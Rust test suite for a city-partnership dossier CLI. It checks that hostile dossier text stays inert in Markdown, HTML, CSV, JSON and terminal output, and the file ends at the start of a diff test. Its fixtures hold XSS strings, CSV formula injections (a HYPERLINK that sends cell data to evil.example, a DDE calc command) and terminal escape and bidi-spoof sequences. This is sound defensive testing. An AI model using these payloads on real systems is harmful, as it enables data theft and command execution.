//! Hostile dossier text in every Markdown, HTML and CSV output (issue 10): it reads back as
//! exactly the text typed, never as Markdown syntax, HTML, a link or an image; CSV is data.
//! Issue 13: control characters and unbalanced bidi controls are shown as escapes in every
//! output meant for people, never sent raw to a terminal; a CSV field never starts a formula;
//! a template that never ends runs out of its budget.
//!
//! Markdown is read back with pulldown-cmark (GFM tables on), HTML with html5gum's WHATWG
//! tokenizer and CSV with the csv crate, so the checks see what a reader's software sees.

use std::collections::BTreeSet;
use std::time::Duration;

use html5gum::{DefaultEmitter, Token, Tokenizer};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use crate::support::{KAZAN, Run, Workspace, commit, git};

/// A city name that splits a table row when a `|` is not escaped.
const CITY: &str = "Kazan | Qazan *x*";
const CITY_FA: &str = "قازان | `کازان`";
/// Everything at once: cell borders (bare and escaped), code spans, emphasis, a script link, a
/// remote image, raw HTML, entities, strikethrough and a heading marker.
const TITLE: &str = r"Offers | A \| B `code` ``two`` *star* _under_ [x](javascript:alert(1)) ![i](https://example.org/i.png) <script>alert(1)</script> &amp; &#x27; ~~struck~~ #5";
const DONE: &str = "# done | **bold** <b>b</b>";
/// Shown on one line in Markdown and HTML; in CSV exactly.
const MULTILINE: &str = "line one\nline two, \"quoted\"";
const MULTILINE_SHOWN: &str = "line one line two, \"quoted\"";
const INTERACTION: &str = "> call | `x` &copy; <https://example.org/auto>";
const NOTES: &str = "- not a list [x](javascript:alert(1))";
const SOURCE: &str = "<https://example.org/source> & ![s](https://example.org/s.png)";
const JOINT: &str = "Iran | Russia [jc](javascript:x)";
const MUNICIPALITY: &str = "<script>alert(1)</script>";
const CHAMBER: &str = "1. not a list &amp; <b>b</b>";
const FACILITATOR: &str = "+ Ali | `x` _y_";
const FACILITATOR_FA: &str = "علی | *ع*";
const EXPERTISE: [&str; 2] = ["a|b", "c & <d>"];
const EVIDENCE: &str = r"= call \| ![i](https://example.org/i.png)";
const OPPORTUNITY: &str = "Showroom | ![i](http://example.org/p.png)";
const SECTOR: &str = "crafts|art";
const OUTCOME: &str = "Outcome | <img src=x onerror=alert(1)>";
const PORTO: &str = "Porto | *Oporto*";
const AUTHOR: &str = "Eve | *root*";
const SUBJECT: &str = "kazan: `x` | [y](javascript:z)";

/// A YAML double-quoted scalar (a JSON string is one).
fn q(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn kazan() -> String {
    format!(
        r#"slug: kazan
name:
  en: {city}
  fa: {city_fa}
  local: Казань
country: RU
relationship:
  kind: sister-city
  status: active
  signed: 2016
  notes: {notes}
  sources: [{source}]
representatives:
  municipality: {municipality}
  chamber: {chamber}
joint_chamber: {joint}
facilitators:
  - id: ali
    name: {facilitator}
    name_fa: {facilitator_fa}
    languages: [ru, tt]
    expertise: [{e0}, {e1}]
    status: active
readiness:
  communication:
    status: partial
    evidence: {evidence}
    assessed: 2026-11-20
actions:
  - id: a-late
    title: {title}
    owner: joint
    due: 2026-10-01
    status: open
  - id: a-soon
    title: {multiline}
    owner: municipality
    due: 2026-12-01
    status: in-progress
  - id: a-done
    title: {done}
    owner: chamber
    due: 2026-11-20
    status: done
    done: 2026-11-23
interactions:
  - date: 2026-11-24
    kind: call
    title: {interaction}
    with: [ali]
opportunities:
  - id: o-show
    title: {opportunity}
    sector: {sector}
    stage: exploring
    lead: chamber
reviews:
  - date: 2026-11-10
    participants: [ali]
    outcome: {outcome}
notes: "line *one*\n# line two"
"#,
        city = q(CITY),
        city_fa = q(CITY_FA),
        notes = q(NOTES),
        source = q(SOURCE),
        municipality = q(MUNICIPALITY),
        chamber = q(CHAMBER),
        joint = q(JOINT),
        facilitator = q(FACILITATOR),
        facilitator_fa = q(FACILITATOR_FA),
        e0 = q(EXPERTISE[0]),
        e1 = q(EXPERTISE[1]),
        evidence = q(EVIDENCE),
        title = q(TITLE),
        multiline = q(MULTILINE),
        done = q(DONE),
        interaction = q(INTERACTION),
        opportunity = q(OPPORTUNITY),
        sector = q(SECTOR),
        outcome = q(OUTCOME),
    )
}

/// Kazan, full of hostile text, and Porto (a hostile name, no facilitator), committed inside
/// the week by a hostile author with a hostile subject.
fn hostile() -> Workspace {
    let ws = Workspace::new();
    let date = "2026-11-22T10:00:00";
    git(&ws, &["init", "-q"], AUTHOR, date);
    ws.city("kazan.yaml", kazan()).city(
        "porto.yaml",
        format!(
            "slug: porto\nname: {{en: {}}}\ncountry: PT\nrelationship: {{kind: friendship, status: active}}\n",
            q(PORTO)
        ),
    );
    commit(
        &ws,
        &["cities/kazan.yaml", "cities/porto.yaml"],
        AUTHOR,
        date,
        SUBJECT,
    );
    ws
}

/// Runs `args`, which must succeed (`check` exits 1: items are not met) and warn of nothing.
fn run(ws: &Workspace, args: &[&str]) -> Run {
    // A report is read below as a Markdown document: piped, as into a file.
    let run = if args.contains(&"report") {
        ws.run_piped(args)
    } else {
        ws.run(args)
    };
    let expected = if args.contains(&"check") { 1 } else { 0 };
    run.code(expected).stderr_empty();
    run
}

// ---------------------------------------------------------------------------------------------
// Markdown

/// A Markdown document as a CommonMark + GFM reader sees it.
#[derive(Debug, Default)]
struct Markdown {
    /// Each table: its header cells, then its rows, as text.
    tables: Vec<Vec<Vec<String>>>,
    /// The text of every paragraph, list item and heading outside tables.
    blocks: Vec<String>,
}

impl Markdown {
    /// Parses `text`, failing on anything dossier text could have made: a link, an image, raw
    /// HTML, a code span or block, emphasis, strikethrough or a block quote. (The templates' own
    /// Markdown is headings, lists, tables and bold.)
    fn parse(text: &str, what: &str) -> Self {
        let mut doc = Markdown::default();
        let mut current = String::new();
        let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Text(t) => current.push_str(&t),
                Event::SoftBreak | Event::HardBreak => current.push(' '),
                Event::Start(Tag::Table(_)) => doc.tables.push(Vec::new()),
                Event::Start(Tag::TableHead | Tag::TableRow) => {
                    doc.tables.last_mut().unwrap().push(Vec::new())
                }
                Event::End(TagEnd::TableCell) => doc
                    .tables
                    .last_mut()
                    .and_then(|t| t.last_mut())
                    .unwrap()
                    .push(std::mem::take(&mut current)),
                Event::End(TagEnd::Paragraph | TagEnd::Item | TagEnd::Heading(_)) => {
                    if !current.is_empty() {
                        doc.blocks.push(std::mem::take(&mut current));
                    }
                }
                Event::Start(
                    Tag::Paragraph
                    | Tag::Heading { .. }
                    | Tag::List(_)
                    | Tag::Item
                    | Tag::Strong
                    | Tag::TableCell,
                )
                | Event::End(
                    TagEnd::List(_)
                    | TagEnd::Strong
                    | TagEnd::Table
                    | TagEnd::TableHead
                    | TagEnd::TableRow,
                ) => {}
                other => panic!("{what}: dossier text became Markdown: {other:?}\n{text}"),
            }
        }
        for table in &doc.tables {
            let header = table[0].len();
            for row in table {
                assert_eq!(
                    row.len(),
                    header,
                    "{what}: a row with {} cells under a header of {header}: {row:?}\n{text}",
                    row.len()
                );
            }
        }
        doc
    }

    /// `text` is exactly one cell of a table (isolates around it aside: they order the text
    /// in a page of the other direction, and show nothing).
    fn has_cell(&self, text: &str, what: &str) -> &Self {
        let bare = |c: &str| c.replace(['\u{2068}', '\u{2069}'], "");
        assert!(
            self.tables
                .iter()
                .flatten()
                .flatten()
                .any(|c| bare(c) == text),
            "{what}: no cell reads {text:?}: {self:#?}"
        );
        self
    }

    /// `text` is in a paragraph, list item or heading, as it is.
    fn has_text(&self, text: &str, what: &str) -> &Self {
        assert!(
            self.blocks.iter().any(|b| b.contains(text)),
            "{what}: no paragraph reads {text:?}: {self:#?}"
        );
        self
    }
}

fn read_markdown(ws: &Workspace, args: &[&str]) -> Markdown {
    let args = [&["--format", "markdown"][..], args].concat();
    Markdown::parse(&run(ws, &args).stdout, &args.join(" "))
}

#[test]
fn weekly_report_markdown_shows_dossier_text_as_text() {
    let ws = hostile();
    for lang in ["en", "fa"] {
        let md = read_markdown(&ws, &["--lang", lang, "report", "weekly", "--commits"]);
        let what = format!("report weekly --lang {lang}");
        let city = if lang == "fa" { CITY_FA } else { CITY };
        md.has_text(city, &what) // the city's heading
            .has_text(INTERACTION, &what)
            .has_cell(city, &what)
            .has_cell(TITLE, &what)
            .has_text(DONE, &what) // a completed action, under its city
            .has_cell(MULTILINE_SHOWN, &what)
            .has_cell(AUTHOR, &what)
            .has_cell(SUBJECT, &what)
            .has_text(PORTO, &what); // no Persian name: shown in English
    }
}

#[test]
fn roadmap_and_review_markdown_show_dossier_text_as_text() {
    let ws = hostile();
    let what = "report roadmap";
    read_markdown(&ws, &["report", "roadmap"])
        .has_text(JOINT, what)
        .has_text(CITY, what)
        .has_cell(TITLE, what)
        .has_cell(MULTILINE_SHOWN, what)
        .has_cell(OPPORTUNITY, what)
        .has_cell(SECTOR, what);
    let what = "report review kazan";
    read_markdown(&ws, &["report", "review", "kazan"])
        .has_text(CITY, what)
        .has_text(NOTES, what)
        .has_text(JOINT, what)
        .has_text(SOURCE, what)
        .has_text(MUNICIPALITY, what)
        .has_text(CHAMBER, what)
        .has_text(FACILITATOR, what)
        .has_cell(EVIDENCE, what)
        .has_cell(TITLE, what)
        .has_text(OPPORTUNITY, what)
        .has_text(SECTOR, what)
        .has_text(OUTCOME, what)
        .has_text(INTERACTION, what);
    read_markdown(&ws, &["report", "review", "porto"]).has_text(PORTO, "report review porto");
}

#[test]
fn list_commands_markdown_show_dossier_text_as_text() {
    let ws = hostile();
    let what = "city list";
    read_markdown(&ws, &["city", "list"])
        .has_cell(CITY, what)
        .has_cell(PORTO, what);
    read_markdown(&ws, &["--lang", "fa", "city", "list"]).has_cell(CITY_FA, "city list --lang fa");
    let what = "facilitator list";
    read_markdown(&ws, &["facilitator", "list"])
        .has_cell(FACILITATOR, what)
        .has_cell(FACILITATOR_FA, what)
        .has_cell(&EXPERTISE.join(", "), what)
        .has_text(PORTO, what); // the gap, under the table
    read_markdown(&ws, &["facilitator", "list", "--gaps"])
        .has_cell(PORTO, "facilitator list --gaps");
    let what = "action list --all";
    read_markdown(&ws, &["action", "list", "--all"])
        .has_cell(TITLE, what)
        .has_cell(DONE, what)
        .has_cell(MULTILINE_SHOWN, what);
    let what = "check";
    read_markdown(&ws, &["check"]).has_cell(&format!("{EVIDENCE} (assessed 2026-11-20)"), what);
    read_markdown(&ws, &["summary"]);
    let what = "city show kazan";
    read_markdown(&ws, &["city", "show", "kazan"])
        .has_text(CITY, what)
        .has_text(NOTES, what)
        .has_text(SOURCE, what)
        .has_text(MUNICIPALITY, what)
        .has_text(CHAMBER, what)
        .has_text(JOINT, what)
        .has_text(FACILITATOR, what)
        .has_text(EVIDENCE, what)
        .has_text(TITLE, what)
        .has_text(OPPORTUNITY, what)
        .has_text(INTERACTION, what)
        .has_text(OUTCOME, what)
        .has_text("line *one* # line two", what);
}

/// A workspace's own template gets its values escaped too, while its own Markdown stays
/// Markdown; `| safe` prints a value as Markdown on purpose.
#[test]
fn workspace_templates_print_values_as_text() {
    let ws = hostile();
    ws.file(
        "templates/weekly.md.j2",
        "# Mine\n\n| title | city |\n| --- | --- |\n{% for a in actions_overdue %}| {{ a.title }} | **{{ a.city | city }}** |\n{% endfor %}\n**{{ interactions[0].title }}**\n\n{{ '*raw*' | safe }}\n",
    );
    let report = run(&ws, &["report", "weekly"]);
    assert!(report.stdout.contains("\n*raw*\n"), "{report}");
    let md = Markdown::parse(
        &report.stdout.replace("*raw*", "raw"),
        "a workspace template",
    );
    md.has_cell(TITLE, "workspace template")
        .has_cell(CITY, "workspace template")
        .has_text(INTERACTION, "workspace template");
    // The data itself is not escaped: JSON is data.
    let json = run(&ws, &["report", "weekly", "--format", "json"]);
    assert_eq!(json.json()["actions_overdue"][0]["title"], TITLE, "{json}");
}

// ---------------------------------------------------------------------------------------------
// HTML

/// The text of every block element of an HTML page, after checking its tags: nothing that
/// loads or runs (no image, script, frame, object, link or form; no `src`, `href`, event
/// handler or `javascript:`); the only URL in an attribute is the SVG namespace; every table
/// cell isolates its text in a `<bdi>`.
fn html_blocks(html: &str, what: &str) -> Vec<String> {
    const ALLOWED: &[&str] = &[
        "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "strong", "ul",
        "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "bdi", "span", "svg", "text",
        "rect",
    ];
    const BLOCKS: &[&str] = &["h1", "h2", "h3", "p", "li", "th", "td"];
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut blocks = Vec::new();
    let mut current = String::new();
    let mut in_cell = false;
    for token in Tokenizer::new_with_emitter(html, emitter) {
        let token = token.unwrap();
        if std::mem::take(&mut in_cell) {
            assert!(
                matches!(&token, Token::StartTag(t) if t.name.as_slice() == b"bdi"),
                "{what}: a cell without <bdi>: {token:?}\n{html}"
            );
        }
        match token {
            Token::StartTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                assert!(ALLOWED.contains(&name.as_str()), "{what}: <{name}>\n{html}");
                in_cell = name == "td" || name == "th";
                for (key, value) in &tag.attributes {
                    let key = String::from_utf8_lossy(key).to_lowercase();
                    let value = String::from_utf8_lossy(value).to_lowercase();
                    assert!(
                        !["src", "href", "srcset", "action", "data"].contains(&key.as_str())
                            && !key.starts_with("on")
                            && !value.contains("javascript:"),
                        "{what}: <{name} {key}={value:?}>\n{html}"
                    );
                    if value.contains("http") {
                        assert_eq!(
                            (key.as_str(), value.as_str()),
                            ("xmlns", "http://www.w3.org/2000/svg"),
                            "{what}: a URL in <{name}>\n{html}"
                        );
                    }
                }
                if BLOCKS.contains(&name.as_str()) {
                    current.clear();
                }
            }
            Token::EndTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                if BLOCKS.contains(&name.as_str()) {
                    blocks.push(std::mem::take(&mut current));
                }
            }
            Token::String(text) => current.push_str(&String::from_utf8_lossy(&text)),
            Token::Error(_) | Token::Comment(_) | Token::Doctype(_) => {}
        }
    }
    blocks
}

fn read_html(ws: &Workspace, args: &[&str]) -> (String, Vec<String>) {
    let args = [&["--format", "html"][..], args].concat();
    let page = run(ws, &args).stdout;
    let blocks = html_blocks(&page, &args.join(" "));
    (page, blocks)
}

fn assert_shows(blocks: &[String], text: &str, what: &str) {
    assert!(
        blocks.iter().any(|b| b.contains(text)),
        "{what}: no element reads {text:?}: {blocks:#?}"
    );
}

#[test]
fn reports_in_html_show_dossier_text_as_text_and_load_nothing() {
    let ws = hostile();
    for lang in ["en", "fa"] {
        let what = format!("report weekly --lang {lang}");
        let (page, blocks) = read_html(&ws, &["--lang", lang, "report", "weekly", "--commits"]);
        let city = if lang == "fa" { CITY_FA } else { CITY };
        assert!(page.contains(&format!(
            "dir=\"{}\"",
            if lang == "fa" { "rtl" } else { "ltr" }
        )));
        for text in [
            city,
            INTERACTION,
            TITLE,
            DONE,
            MULTILINE_SHOWN,
            AUTHOR,
            SUBJECT,
        ] {
            assert_shows(&blocks, text, &what);
        }
        // The hostile text is there, as text: escaped for HTML exactly once.
        assert!(
            page.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &amp;#x27;"),
            "{page}"
        );
    }
    let (_, blocks) = read_html(&ws, &["report", "roadmap"]);
    for text in [JOINT, CITY, TITLE, MULTILINE_SHOWN, OPPORTUNITY, SECTOR] {
        assert_shows(&blocks, text, "report roadmap");
    }
    let (_, blocks) = read_html(&ws, &["report", "review", "kazan"]);
    for text in [
        CITY,
        NOTES,
        JOINT,
        SOURCE,
        MUNICIPALITY,
        CHAMBER,
        FACILITATOR,
        EVIDENCE,
        TITLE,
        OPPORTUNITY,
        OUTCOME,
        INTERACTION,
    ] {
        assert_shows(&blocks, text, "report review kazan");
    }
}

/// Defence in depth: even Markdown that a workspace's template writes on purpose never makes
/// the page load an image, run HTML or follow a `javascript:` link.
#[test]
fn html_drops_images_raw_html_and_script_links_even_from_a_template() {
    let ws = hostile();
    ws.file(
        "templates/review.md.j2",
        "# {{ slug }}\n\n![logo](https://example.org/logo.png) [run](javascript:alert(1)) <img src=\"https://example.org/t.png\"> <script>alert(1)</script>\n\n<iframe src=\"https://example.org\"></iframe>\n\n[site](https://example.org/ok)\n",
    );
    let page = run(&ws, &["--format", "html", "report", "review", "kazan"]).stdout;
    assert!(
        !page.contains("<img") && !page.contains("<script") && !page.contains("<iframe"),
        "{page}"
    );
    assert!(!page.contains("href=\"javascript"), "{page}");
    // Their text stays, so the reader sees what was there.
    assert!(page.contains("logo") && page.contains("run"), "{page}");
    // A web link written by the template's author is kept.
    assert!(
        page.contains("<a href=\"https://example.org/ok\">site</a>"),
        "{page}"
    );
}

// ---------------------------------------------------------------------------------------------
// CSV

/// The header and records of a CSV text, read by the csv crate (every record as long as the
/// header), after checking that every column has a name of its own and no field is a display
/// string ("—").
fn read_csv(ws: &Workspace, args: &[&str]) -> (Vec<String>, Vec<Vec<String>>) {
    let args = [&["--format", "csv"][..], args].concat();
    let what = args.join(" ");
    let run = run(ws, &args);
    let mut reader = csv::ReaderBuilder::new().from_reader(run.stdout.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap_or_else(|e| panic!("{what}: {e}\n{run}"))
        .iter()
        .map(str::to_owned)
        .collect();
    let distinct: BTreeSet<&String> = header.iter().collect();
    assert_eq!(distinct.len(), header.len(), "{what}: {header:?}");
    assert!(
        header.iter().all(|h| !h.trim().is_empty()),
        "{what}: {header:?}"
    );
    assert!(header.iter().all(|h| h.is_ascii()), "{what}: {header:?}");
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| {
            let r = r.unwrap_or_else(|e| panic!("{what}: {e}\n{run}"));
            r.iter().map(str::to_owned).collect()
        })
        .collect();
    for row in &rows {
        for field in row {
            assert!(
                !field.contains('—'),
                "{what}: a display string {field:?}\n{run}"
            );
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
                    || field.parse::<f64>().is_ok(),
                "{what}: {field:?} is a formula to a spreadsheet\n{run}"
            );
        }
    }
    (header, rows)
}

/// The field `column` of the row whose `key` column is `value`.
fn field<'a>(
    (header, rows): &'a (Vec<String>, Vec<Vec<String>>),
    key: &str,
    value: &str,
    column: &str,
) -> &'a str {
    let at = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
    };
    let row = rows
        .iter()
        .find(|r| r[at(key)] == value)
        .unwrap_or_else(|| panic!("no row with {key} = {value}: {rows:?}"));
    &row[at(column)]
}

#[test]
fn csv_is_data_whatever_the_language() {
    let ws = hostile();
    for lang in ["en", "fa"] {
        let l = [
            "--lang",
            lang,
            "--calendar",
            if lang == "fa" { "jalali" } else { "gregorian" },
        ];
        let with = |args: &[&'static str]| -> Vec<&'static str> { [&l[..], args].concat() };

        let cities = read_csv(&ws, &with(&["city", "list"]));
        assert_eq!(field(&cities, "slug", "kazan", "name.en"), CITY);
        assert_eq!(field(&cities, "slug", "kazan", "name.fa"), CITY_FA);
        assert_eq!(field(&cities, "slug", "kazan", "readiness.met"), "3");
        assert_eq!(field(&cities, "slug", "kazan", "readiness.total"), "11");
        assert_eq!(
            field(&cities, "slug", "kazan", "last_contact"),
            "2026-11-24"
        );
        assert_eq!(field(&cities, "slug", "kazan", "overdue_actions"), "1");
        assert_eq!(field(&cities, "slug", "porto", "last_contact"), "");
        assert_eq!(field(&cities, "slug", "porto", "signed"), "");
        assert_eq!(field(&cities, "slug", "porto", "name.fa"), "");

        let actions = read_csv(&ws, &with(&["action", "list", "--all"]));
        assert_eq!(field(&actions, "id", "a-late", "title"), TITLE);
        assert_eq!(field(&actions, "id", "a-soon", "title"), MULTILINE);
        assert_eq!(field(&actions, "id", "a-late", "owner"), "joint");
        assert_eq!(field(&actions, "id", "a-soon", "owner"), "municipality");
        assert_eq!(field(&actions, "id", "a-done", "owner"), "chamber");
        assert_eq!(field(&actions, "id", "a-soon", "status"), "in-progress");
        assert_eq!(field(&actions, "id", "a-late", "due"), "2026-10-01");
        assert_eq!(field(&actions, "id", "a-late", "overdue"), "true");
        assert_eq!(field(&actions, "id", "a-late", "days_overdue"), "56");
        assert_eq!(field(&actions, "id", "a-soon", "days_overdue"), "");

        let people = read_csv(&ws, &with(&["facilitator", "list"]));
        // `+ Ali` would be a formula: guarded by a `'`.
        assert_eq!(
            field(&people, "id", "ali", "name"),
            format!("'{FACILITATOR}")
        );
        assert_eq!(field(&people, "id", "ali", "name_fa"), FACILITATOR_FA);
        assert_eq!(field(&people, "id", "ali", "cities"), "kazan");
        assert_eq!(field(&people, "id", "ali", "languages"), "ru;tt");
        assert_eq!(
            field(&people, "id", "ali", "expertise"),
            EXPERTISE.join(";")
        );
        assert_eq!(field(&people, "id", "ali", "status"), "active");

        let gaps = read_csv(&ws, &with(&["facilitator", "list", "--gaps"]));
        assert_eq!(field(&gaps, "slug", "porto", "name.en"), PORTO);

        let check = read_csv(&ws, &with(&["check", "kazan"]));
        assert!(
            field(&check, "id", "communication", "reason").starts_with(&format!("'{EVIDENCE}"))
        );
        assert_eq!(field(&check, "id", "communication", "status"), "partial");
        assert_eq!(
            field(&check, "id", "active-facilitators", "status"),
            "partial"
        );
        assert_eq!(field(&check, "id", "active-facilitators", "slug"), "kazan");

        let summary = read_csv(&ws, &with(&["summary"]));
        assert_eq!(
            field(&summary, "slug", "kazan", "requirements.communication"),
            "partial"
        );
        assert_eq!(field(&summary, "slug", "kazan", "met"), "3");
        assert_eq!(field(&summary, "slug", "kazan", "total"), "11");

        let roadmap = read_csv(&ws, &with(&["report", "roadmap"]));
        assert_eq!(field(&roadmap, "id", "a-late", "title"), TITLE);
        assert_eq!(field(&roadmap, "id", "a-late", "joint_chamber"), JOINT);
        assert_eq!(field(&roadmap, "id", "o-show", "owner"), "chamber");
        assert_eq!(field(&roadmap, "id", "o-show", "sector"), SECTOR);
    }
}

/// CSV has the JSON rows' fields, named by their keys (`name.en` for a nested one): the two
/// formats never drift apart.
#[test]
fn csv_columns_are_the_json_keys() {
    let ws = hostile();
    fn keys(value: &serde_json::Value, prefix: &str, out: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => {
                for (k, v) in map {
                    keys(v, &format!("{prefix}{k}."), out);
                }
            }
            _ => out.push(prefix.trim_end_matches('.').to_owned()),
        }
    }
    for (args, extra) in [
        (&["city", "list"][..], &[][..]),
        (&["facilitator", "list"][..], &[][..]),
        (&["facilitator", "list", "--contacts"][..], &[][..]),
        (&["facilitator", "list", "--gaps"][..], &[][..]),
        (&["action", "list", "--all"][..], &["days_overdue"][..]),
    ] {
        let json = run(&ws, &[&["--format", "json"][..], args].concat()).json();
        let mut expected = Vec::new();
        keys(&json[0], "", &mut expected);
        expected.extend(extra.iter().map(|e| (*e).to_owned()));
        let (header, _) = read_csv(&ws, args);
        assert_eq!(header, expected, "{args:?}");
    }
}

/// Formulas as dossier text: a link that runs when clicked, a command, a phone number, a sum.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Kazan")"#;
const CALC: &str = "=cmd|' /C calc'!A0";
const PHONE: &str = "+98 31 1234 5678";

/// Every text field a spreadsheet reads as a formula (`=`, `+`, `-`, `@`, TAB, CR, LF first) is
/// guarded by a `'`, in every CSV; numbers, and text that is exactly a number, stay numbers.
/// JSON keeps the text as it is.
#[test]
fn csv_fields_never_start_a_formula_and_numbers_stay_numbers() {
    let ws = Workspace::new();
    ws.city(
        "kazan.yaml",
        format!(
            r#"slug: kazan
name:
  en: {hyperlink}
  fa: "@SUM(1+1)"
  local: "\tKazan"
country: RU
relationship: {{kind: sister-city, status: active}}
facilitators:
  - id: ali
    name: "-Ali"
    languages: [ru]
    expertise: ["=1+1", tourism]
    status: active
    contact: {{email: "=ali@example.org", phone: {phone}}}
actions:
  - id: a-calc
    title: {calc}
    owner: joint
    due: 2026-10-01
    status: open
  - id: a-minus
    title: "-3"
    owner: chamber
    status: open
  - id: a-decimal
    title: "12.5"
    owner: chamber
    status: open
  - id: a-cr
    title: "\rx"
    owner: chamber
    status: open
  - id: a-lf
    title: "\nx"
    owner: chamber
    status: open
"#,
            hyperlink = q(HYPERLINK),
            phone = q(PHONE),
            calc = q(CALC),
        ),
    );
    let number = |text: &str| text.parse::<i64>().is_ok();

    let cities = read_csv(&ws, &["city", "list"]);
    assert_eq!(
        field(&cities, "slug", "kazan", "name.en"),
        format!("'{HYPERLINK}")
    );
    assert_eq!(field(&cities, "slug", "kazan", "name.fa"), "'@SUM(1+1)");
    assert_eq!(field(&cities, "slug", "kazan", "name.local"), "'\tKazan");
    for column in [
        "readiness.met",
        "readiness.total",
        "active_facilitators",
        "open_actions",
        "overdue_actions",
    ] {
        assert!(number(field(&cities, "slug", "kazan", column)), "{column}");
    }
    assert_eq!(field(&cities, "slug", "kazan", "open_actions"), "5");

    let people = read_csv(&ws, &["facilitator", "list", "--contacts"]);
    assert_eq!(field(&people, "id", "ali", "name"), "'-Ali");
    assert_eq!(field(&people, "id", "ali", "expertise"), "'=1+1;tourism");
    assert_eq!(field(&people, "id", "ali", "email"), "'=ali@example.org");
    assert_eq!(field(&people, "id", "ali", "phone"), format!("'{PHONE}"));

    let actions = read_csv(&ws, &["action", "list", "--all"]);
    assert_eq!(field(&actions, "id", "a-calc", "title"), format!("'{CALC}"));
    // A CR is shown as the tables show it, so nothing is left to guard.
    assert_eq!(field(&actions, "id", "a-cr", "title"), r"\rx");
    assert_eq!(field(&actions, "id", "a-lf", "title"), "'\nx");
    // Text that is exactly a number is a number to the spreadsheet, not a formula.
    assert_eq!(field(&actions, "id", "a-minus", "title"), "-3");
    assert_eq!(field(&actions, "id", "a-decimal", "title"), "12.5");
    assert_eq!(field(&actions, "id", "a-calc", "days_overdue"), "56");

    let roadmap = read_csv(&ws, &["report", "roadmap"]);
    assert_eq!(field(&roadmap, "id", "a-calc", "title"), format!("'{CALC}"));

    // JSON is data: the text as it was written.
    let json = run(&ws, &["city", "list", "--format", "json"]).json();
    assert_eq!(json[0]["name"]["en"], HYPERLINK);
    let json = run(
        &ws,
        &["facilitator", "list", "--contacts", "--format", "json"],
    )
    .json();
    assert_eq!(json[0]["phone"], PHONE);
}

// ---------------------------------------------------------------------------------------------
// Terminals

/// Fails unless `out` is inert on a terminal: no control character but LF and TAB (so no ESC,
/// CR, DEL or C1 control), and on every line each bidi embedding, override and isolate closed
/// by its own kind, and nothing closed that was not open.
fn assert_inert(out: &str, what: &str) {
    if let Some(c) = out
        .chars()
        .find(|c| c.is_control() && !matches!(c, '\n' | '\t'))
    {
        panic!("{what}: a raw {c:?} in {out:?}");
    }
    for line in out.split('\n') {
        let mut open = Vec::new();
        for c in line.chars() {
            let closed = match c {
                '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' | '\u{2066}'..='\u{2068}' => {
                    open.push(c);
                    true
                }
                '\u{202C}' => matches!(open.pop(), Some('\u{202A}'..='\u{202E}')),
                '\u{2069}' => matches!(open.pop(), Some('\u{2066}'..='\u{2068}')),
                _ => true,
            };
            assert!(closed, "{what}: {c:?} closes nothing in {line:?}");
        }
        assert!(open.is_empty(), "{what}: {open:?} left open in {line:?}");
    }
}

/// Terminal escapes (erase the screen, set the window title, open a hyperlink) and a
/// right-to-left override are shown as escapes in a table, and kept exactly in JSON.
#[test]
fn terminal_escapes_are_shown_not_obeyed() {
    const NAME: &str = "Kazan\u{1b}[2J\u{9b}31m";
    const TITLE: &str = "\u{1b}]0;pwned\u{7}Visit \u{1b}]8;;http://x\u{1b}\\here\u{1b}]8;;\u{1b}\\";
    const PERSON: &str = "Ali\u{202E}fdp.exe";
    let ws = Workspace::new();
    ws.city(
        "kazan.yaml",
        format!(
            "slug: kazan\nname: {{en: {}}}\ncountry: RU\nrelationship: {{kind: sister-city, status: active}}\nfacilitators:\n  - id: ali\n    name: {}\n    status: active\nactions:\n  - id: a-visit\n    title: {}\n    owner: joint\n    status: open\n",
            // YAML takes a C1 control only escaped.
            q(NAME).replace('\u{9b}', "\\u009b"),
            q(PERSON),
            q(TITLE)
        ),
    );
    for (args, shown) in [
        (&["city", "list"][..], r"Kazan\e[2J"),
        (&["action", "list"], r"\e]0;pwned\x07Visit"),
        (&["facilitator", "list"], r"Ali\u{202e}fdp.exe"),
        (&["city", "show", "kazan"], r"\e]8;;http://x\e\here"),
    ] {
        let what = args.join(" ");
        let table = run(&ws, args);
        assert_inert(&table.stdout, &what);
        table.stdout_has(shown);
        // Markdown escapes the backslashes again; the page reads as the table does.
        let markdown = run(&ws, &[&["--format", "markdown"][..], args].concat()).stdout;
        assert_inert(&markdown, &what);
        let md = Markdown::parse(&markdown, &what);
        let text = md.tables.iter().flatten().flatten().chain(&md.blocks);
        assert!(text.clone().any(|t| t.contains(shown)), "{what}: {md:#?}");
    }
    // JSON keeps the text exactly, spelled so that a terminal showing it obeys nothing (a C1
    // CSI or an override as `\u009b`, `\u202e`); CSV shows it as the tables do.
    for args in [
        &["city", "list"][..],
        &["action", "list"],
        &["facilitator", "list"],
        &["city", "show", "kazan"],
    ] {
        let what = args.join(" ");
        let json = run(&ws, &[&["--format", "json"][..], args].concat());
        assert_inert(&json.stdout, &format!("{what} --format json"));
        if args[1] == "list" {
            let csv = run(&ws, &[&["--format", "csv"][..], args].concat());
            // RFC 4180 ends lines with CRLF; no other CR.
            let lines = csv.stdout.replace("\r\n", "\n");
            assert_inert(&lines, &format!("{what} --format csv"));
        }
    }
    let json = run(&ws, &["city", "show", "kazan", "--format", "json"]).json();
    assert_eq!(json["name"]["en"], NAME);
    assert_eq!(json["actions"][0]["title"], TITLE);
    assert_eq!(json["facilitators"][0]["name"], PERSON);
}

/// `diff` quotes dossier text (a note, a name, evidence): its lines show the controls, obey none.
#[test]
fn diff_lines_show_terminal_escapes_not_obey_them() {
